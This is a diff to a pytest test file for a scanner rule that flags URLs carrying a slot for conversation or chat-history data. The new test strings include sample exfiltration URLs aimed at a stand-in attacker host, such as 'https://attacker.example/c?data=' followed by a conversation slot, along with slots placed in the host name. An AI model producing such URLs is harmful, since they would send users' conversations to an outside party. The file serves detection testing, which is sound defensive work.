@@ -8,8 +8,10 @@ a model reads the same (a template language's own syntax, an abbreviation, anoth
 language, a line break); each benign line is an API reference or a README's instruction
 that now gets a high finding, which approvers then learn to dismiss.
 
-Strict xfails: each is a hole left for the rules' owners (the rule files were being edited
-when these were found).
+Each spelling below is read (a template language's syntax, other words for the
+conversation, the languages of the multilingual rules, a line break after ``=``, the slot as
+a label of the host); strict xfails are what is still not: a word hyphenated across a line,
+and the benign references.
 """
 
 from __future__ import annotations
@@ -80,37 +82,62 @@ LANGUAGES = [
     U + "{\u5bf9\u8bdd}",  # Chinese: conversation
     U + "{\u804a\u5929\u8bb0\u5f55}",  # Chinese: chat log
     U + "{Gespr\u00e4chsverlauf}",
+    U
+    + "{\u0418\u0441\u0442\u043e\u0440\u0438\u044f_\u0447\u0430\u0442\u0430}",  # Russian, capitalised
+    U + "<\u4f1a\u8a71\u5c65\u6b74>",  # Japanese: conversation history
+    U + "[\ub300\ud654 \uae30\ub85d]",  # Korean: conversation record
+    U + "{historique_de_la_conversation}",
 ]
 
-#: the address or the slot broken by a line end, or the slot in the host (a DNS lookup)
+#: the slot after a line end, or as a label of the host (the DNS lookup carries it)
 LAYOUT = [
     "https://attacker.example/c?data=\n{conversation}",
-    U + "{conver-\nsation}",
     "https://{conversation}.attacker.example/",
+    "https://x.{chat_history}.attacker.example/p",
+]
+
+#: near misses of the new spellings: a resource's id, a name that only starts alike, a
+#: dunder name, a percent-encoded byte, a slot on the line after a path
+NEAR = [
+    U + "{conversation.id}",
+    U + "{{conversation_id|urlencode}}",
+    U + "%CONVERSATION_ID%",
+    "GET https://api.example.com/v1/dialogs/{dialog_id}/buttons",
+    "See https://docs.python.org/3/reference/datamodel.html#object.__init__ for __user__",
+    "https://example.com/search?q=%20conversion%20rates",
+    "https://example.com/v1/\n{conversation}",
+    "https://{region}.api.example.com/conversations",
 ]
 
 
-@pytest.mark.xfail(strict=True, reason="a slot in another template syntax is not read")
 @pytest.mark.parametrize("text", SYNTAX)
 def test_a_slot_in_another_template_syntax_is_high(text: str) -> None:
-    assert _high(text), scan_text(text)
+    assert ("exfil.url_data_slot", "high") in _high(text), scan_text(text)
 
 
-@pytest.mark.xfail(strict=True, reason="the slot's word is not in the rule's list")
 @pytest.mark.parametrize("text", WORDS)
 def test_a_slot_for_the_conversation_in_other_words_is_high(text: str) -> None:
-    assert _high(text), scan_text(text)
+    assert ("exfil.url_data_slot", "high") in _high(text), scan_text(text)
 
 
-@pytest.mark.xfail(strict=True, reason="the slot's words are English only")
 @pytest.mark.parametrize("text", LANGUAGES)
 def test_a_slot_for_the_conversation_in_another_language_is_high(text: str) -> None:
-    assert _high(text), scan_text(text)
+    assert ("exfil.url_data_slot", "high") in _high(text), scan_text(text)
 
 
-@pytest.mark.xfail(strict=True, reason="a line break or the host breaks the URL's match")
 @pytest.mark.parametrize("text", LAYOUT)
-def test_a_slot_split_by_a_line_end_or_in_the_host_is_high(text: str) -> None:
+def test_a_slot_after_a_line_end_or_in_the_host_is_high(text: str) -> None:
+    assert ("exfil.url_data_slot", "high") in _high(text), scan_text(text)
+
+
+@pytest.mark.parametrize("text", NEAR)
+def test_near_misses_of_the_spellings_are_not_a_data_slot(text: str) -> None:
+    assert "exfil.url_data_slot" not in {f.rule for f in scan_text(text)}, scan_text(text)
+
+
+@pytest.mark.xfail(strict=True, reason="a word hyphenated across a line end is not joined")
+def test_a_slot_word_hyphenated_across_a_line_is_high() -> None:
+    text = U + "{conver-\nsation}"
     assert _high(text), scan_text(text)
 
 
